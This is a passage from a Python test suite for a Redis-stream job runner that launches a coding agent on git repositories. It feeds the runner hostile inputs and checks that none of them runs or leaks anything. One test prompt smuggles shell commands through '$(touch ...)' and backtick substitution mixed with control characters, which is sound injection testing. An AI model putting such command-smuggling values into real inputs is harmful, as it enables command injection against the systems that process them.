            job={"prompt": f"\x1b[31mred\x07\r\n$(touch {pwn('prompt1')}); `touch {pwn('prompt2')}`; \x7f\x08'\"*"},
        ),
        Case("entry:only-job-id", entry={"job_id": "{job}"}, reason="lacks"),
        Case("entry:no-job-id", entry={"user_id": world.default_user, "repo_url": world.repo_url}, expect="refused"),
        Case(
            "entry:no-such-job",
            entry={
                "job_id": "no-such-job",
                "user_id": world.default_user,
                "provider_id": world.provider_id,
                "repo_url": world.repo_url,
                "prompt": "x",
                "environment": "d",
            },
            expect="refused",
        ),
        Case("hash:id-mismatch", job={"id": "someone-else"}, reason="does not match"),
        Case("hash:no-user", job={"user_id": ""}, reason="user_id"),
        Case("hash:already-final", job={"status": "success"}, expect="untouched"),
    ]
    return cases


def _setup_case(world: World, case: Case) -> tuple[str | None, str | None]:
    """Write the case into Redis; (job id, stream entry id)."""
    client = world.client
    if case.job is not None:
        kwargs = dict(case.job)
        user = kwargs.pop("user", world.default_user)
        job_id = world.add_job(user=str(user), **kwargs)  # type: ignore[arg-type]
        entry_id = client.xrevrange("jobs:stream", count=1)[0][0]
        if "user_id" in kwargs or "id" in kwargs:  # hash-only corruption: the entry stays well-formed
            client.hset(f"job:{job_id}", mapping={k: str(v) for k, v in kwargs.items() if k in ("user_id", "id")})
        return job_id, entry_id
    assert case.entry is not None
    fields = dict(case.entry)
    if fields.get("job_id") != "{job}":
        return None, client.xadd("jobs:stream", fields)
    fields["job_id"] = world.add_job(enqueue=False)
    return fields["job_id"], client.xadd("jobs:stream", fields)


def snapshot(root: Path, skip: set[Path]) -> set[str]:
    found: set[str] = set()
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if Path(dirpath, d) not in skip]
        found.update(str(Path(dirpath, n).relative_to(root)) for n in dirnames + filenames)
    return found


def test_hostile_stream_entries_and_job_hashes_all_end_cleanly_in_one_burst(sworld: World, tmp_path: Path) -> None:
    world = sworld
    forms = token_forms(world.token)
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "keep").write_text("keep")
    skip = {world.temp_dir, world.tmp / "redis", world.tmp / "home"}
    with RecordingListener() as other_server:
        corpus = hostile_corpus(world, tmp_path, other_server.port)
        written = [(case, *_setup_case(world, case)) for case in corpus]
        before = snapshot(tmp_path, skip), set(os.listdir(tmp_path.parent))
        result = world.run_burst(AGENT_COMMAND='printf "%s" "$REPOBOX_PROMPT" > prompt.txt', MAX_JOBS_PER_USER="10")
        assert other_server.received == [], "a job reached a server that is not its provider's"
    assert result.returncode == 0, result.stderr[-3000:]
    assert "Traceback" not in result.stderr

    problems = []
    for case, job_id, _entry_id in written:
        job = world.job(job_id) if job_id else {}
        status, error = job.get("status"), job.get("error_message", "")
        if case.expect == "failed":
            if status != "failed" or case.reason.lower() not in error.lower():
                problems.append(f"{case.name}: expected failed ({case.reason!r}), got {status} {error!r}")
        elif case.expect == "success":
            if status != "success":
                problems.append(f"{case.name}: expected success, got {status} {error!r}")
        elif case.expect == "final":
            if status not in ("success", "failed"):
                problems.append(f"{case.name}: expected a final status, got {status}")
        elif case.expect in ("refused", "untouched"):
            if status not in (None, "pending", "success") or job.get("started_at"):
                problems.append(f"{case.name}: expected nothing run, got {job}")
    assert problems == []

    # Every entry was acknowledged: nothing is left pending, nothing loops.
    assert world.client.xpending("jobs:stream", "jobs:stream:runners")["pending"] == 0
    # Nothing the input named was created; nothing was created outside TEMP_DIR; TEMP_DIR holds
    # only the clone cache (kept across jobs, see README "Clone cache").
    assert sorted(p.name for p in tmp_path.glob("pwned*")) == []
    assert (victim / "keep").read_text() == "keep"
    assert sorted(snapshot(tmp_path, skip) - before[0]) == []
    assert sorted(set(os.listdir(tmp_path.parent)) - before[1]) == []
    assert sorted(p.name for p in world.temp_dir.iterdir()) == ["cache"]
    # The control-character prompt reached the agent intact and the commit as one clean line.
    ok = next(j for c, j, _ in written if c.name == "prompt:control-and-shell")
    assert ok is not None
    subject = world.git.log(world.repo_name, work_branch(ok))[0][1]
    assert subject.startswith("repobox: ") and all(ord(c) >= 0x20 and ord(c) != 0x7F for c in subject)
    prompt = next(c.job["prompt"] for c in corpus if c.name == "prompt:control-and-shell")  # type: ignore[index]
    assert world.git.show_file(world.repo_name, work_branch(ok), "prompt.txt") == prompt
    assert_no_leak_in_results(world, result.stderr, forms)


UNDECODABLE_CASES = [
    "prompt-not-utf8",
    "repo-url-not-utf8",
    "job-key-not-a-hash",
    "entry-job-id-not-utf8",
    "entry-field-not-utf8",
]


@pytest.mark.parametrize("kind", UNDECODABLE_CASES)
def test_undecodable_bytes_and_wrong_key_types_are_refused_and_the_runner_keeps_going(sworld: World, kind: str) -> None:
    """The web app writes strings, but Redis holds bytes: invalid UTF-8 in a job hash or a stream
    entry, or a `job:{id}` key of the wrong type, must not crash or wedge the runner."""
    world = sworld
    raw = redis.Redis.from_url(world.redis_server.url)
    fields: dict[str, str | bytes] = {
        "user_id": world.default_user,
        "provider_id": world.provider_id,
        "repo_url": world.repo_url,
        "prompt": "x",
        "environment": "default",
    }
    job_id: str | None = None
    if kind == "prompt-not-utf8":
        job_id = world.add_job(enqueue=False)
        raw.hset(f"job:{job_id}", "prompt", b"caf\xe9 \xff\xfe binary")
    elif kind == "repo-url-not-utf8":
        job_id = world.add_job(enqueue=False)
        raw.hset(f"job:{job_id}", "repo_url", b"https://127.0.0.1/\xc3\x28.git")
    elif kind == "job-key-not-a-hash":
        job_id = "wrong-type-job"
        raw.set(f"job:{job_id}", b"not a hash")
    if job_id is not None:
        fields["job_id"] = job_id
    elif kind == "entry-job-id-not-utf8":
        fields["job_id"] = b"\xff\xfe-bad-id"
    else:
        fields.update(job_id="ok-id", prompt=b"\x80\x81")
    raw.xadd("jobs:stream", fields)
    good = world.add_job(prompt="after the hostile one")
    result = world.run_burst(MAX_CONCURRENT_JOBS="1")
    assert "Traceback" not in result.stderr, result.stderr[-1500:]
    assert result.returncode == 0, result.stderr[-1500:]
    assert world.job(good)["status"] == "success", world.output_text(good)
    if kind == "repo-url-not-utf8":
        assert raw.hget(f"job:{job_id}", "status") == b"failed" and raw.hget(f"job:{job_id}", "error_message")
    elif kind == "prompt-not-utf8":  # refused, or run with the undecodable bytes replaced: either way, final
        assert raw.hget(f"job:{job_id}", "status") in (b"failed", b"success"), job_id
    pending = raw.xpending_range("jobs:stream", "jobs:stream:runners", min="-", max="+", count=100)
    assert [p["message_id"].decode() for p in pending] == [], "the hostile entry was never acknowledged"


def test_allowed_git_hosts_refuses_a_provider_host_not_on_the_list(sworld: World, tmp_path: Path) -> None:
    world = sworld
    job_id = world.add_job()
    result = world.run_burst(ALLOWED_GIT_HOSTS="git.example.com")
    assert result.returncode == 0, result.stderr[-2000:]
    job = world.job(job_id)
    assert job["status"] == "failed" and "ALLOWED_GIT_HOSTS" in job["error_message"], job
    assert not [r for r in world.git.requests if world.repo_name in r.path]
